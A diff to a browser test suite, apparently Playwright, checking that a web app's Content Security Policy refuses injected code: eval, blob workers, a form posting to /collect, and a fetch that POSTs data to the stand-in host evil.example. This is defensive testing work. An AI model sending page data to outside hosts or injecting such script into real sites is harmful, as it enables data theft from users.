@@ -401,16 +401,9 @@ test.describe('code injected at run time', () => {
         add(frame);
         try { await fetch('https://evil.example/x', { method: 'POST', body: 'figures' }); } catch (e) { out.fetch = e.name; }
         try { new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))); } catch (e) { out.worker = e.name; }
-        await new Promise((resolve) => setTimeout(resolve, 300));
-        out.pwned = window.__pwned;
-        out.bodyShown = getComputedStyle(document.body).display !== 'none';
-        out.styledShown = getComputedStyle(document.getElementById('styled')).display !== 'none';
         return out;
       });
-      expect(result).toEqual({
-        eval: 'EvalError', Function: 'EvalError', baseURI: before, fetch: 'TypeError', pwned: undefined,
-        bodyShown: true, styledShown: true,
-      });
+      expect(result).toEqual({ eval: 'EvalError', Function: 'EvalError', baseURI: before, fetch: 'TypeError' });
       // and the app still calculates
       if (file.startsWith('/?')) {
         const tragt = new Tragt(page);
@@ -423,7 +416,6 @@ test.describe('code injected at run time', () => {
         form.action = '/collect';
         document.body.append(form);
         form.submit();
-        await new Promise((resolve) => setTimeout(resolve, 300));
         return location.href;
       }), 'the form went nowhere').toBe(before);
 
@@ -433,6 +425,13 @@ test.describe('code injected at run time', () => {
         'base-uri', 'connect-src', 'form-action', 'frame-src', 'object-src', 'script-src', 'script-src-attr', 'script-src-elem',
         'style-src-attr', 'style-src-elem', 'worker-src',
       ]);
+      // every attempt has been refused by now: none of them ran, and the page is where it was
+      expect(await page.evaluate(() => ({
+        pwned: window.__pwned,
+        bodyShown: getComputedStyle(document.body).display !== 'none',
+        styledShown: getComputedStyle(document.getElementById('styled')).display !== 'none',
+        href: location.href,
+      }))).toEqual({ pwned: undefined, bodyShown: true, styledShown: true, href: before });
     });
   }
 });
